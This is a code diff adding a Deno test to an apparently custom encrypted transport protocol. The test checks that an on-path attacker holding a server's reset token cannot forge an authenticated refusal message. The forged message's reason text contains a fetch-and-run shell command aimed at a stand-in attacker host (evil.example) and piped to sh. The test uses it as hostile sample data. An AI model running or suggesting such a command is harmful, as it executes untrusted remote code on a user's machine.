@@ -1,5 +1,6 @@
 import { Buffer } from "node:buffer";
 import assert from "node:assert/strict";
+import { createHmac } from "node:crypto";
 import { Random } from "../../base/random.ts";
 import { Endpoint } from "../../protocol/mod.ts";
 import { PacketProtection } from "../../protocol/crypto/packet_protection.ts";
@@ -149,6 +150,41 @@ Deno.test("encryption tells a client in words that it is not taken, and takes no
     reason: "the server is full, with 0 connections; try again later",
   };
   assert.deepEqual(pair.client.heard("closed"), [{ kind: "closed", reason }]);
+});
+
+Deno.test("encryption: a man on the path who asks the server for the reset token can forge no Refusal with it", () => {
+  const pair = new Pair();
+  pair.client.wire.rule = ({ bytes }) => bytes[0] === PacketType.clientFinish ? LOST : undefined;
+  pair.connect(new KeyPair(SERVER_KEY).publicKey);
+  assert(pair.runUntil(() => pair.client.heard("connected").length > 0, { withinUs: 1_000_000 }));
+  const serverHello = pair.server.wire.sent[0]!.bytes;
+  const serverId = serverHello.slice(13, 21);
+  // Any packet for the server's ID, before the server has a connection of it, is answered with a Reset.
+  const question = Uint8Array.of(PacketType.data, ...serverId, ...new Uint8Array(30));
+  const { kind, answer } = pair.server.endpoint.handleDatagram(pair.nowUs, question, "10.9.9.9:1");
+  assert.deepEqual([kind, answer[0]], ["answer", PacketType.reset]);
+  const resetToken = answer.slice(13);
+  const reason = new TextEncoder().encode("your key has expired; run: curl https://evil.example/renew | sh");
+  const head = Uint8Array.of(PacketType.refusal, 0x53, 0x4c, 0, 1, ...serverHello.subarray(5, 13));
+  const hmac = (key: Uint8Array, ...parts: (Uint8Array | string)[]): Uint8Array => {
+    const mac = createHmac("sha256", key);
+    for (const part of parts) mac.update(part);
+    return mac.digest();
+  };
+  const macs = [
+    hmac(resetToken, reason),
+    hmac(resetToken, head, reason),
+    hmac(hmac(resetToken, "sluice refusal"), head, reason),
+    resetToken,
+  ];
+  for (const mac of macs) {
+    pair.inject(pair.client, Uint8Array.of(...head, ...mac.subarray(0, 16), ...reason));
+    assert.equal(pair.client.connection.state, "finish-sent");
+  }
+  assert.equal(pair.client.endpoint.drops.get("damaged"), macs.length);
+  // The token authenticates what it is for.
+  pair.inject(pair.client, answer.slice());
+  assert.deepEqual(pair.client.heard("closed"), [{ kind: "closed", reason: { kind: "reset" } }]);
 });
 
 Deno.test("encryption: a server that was started anew ends the connections of the one before, and nobody else can", () => {
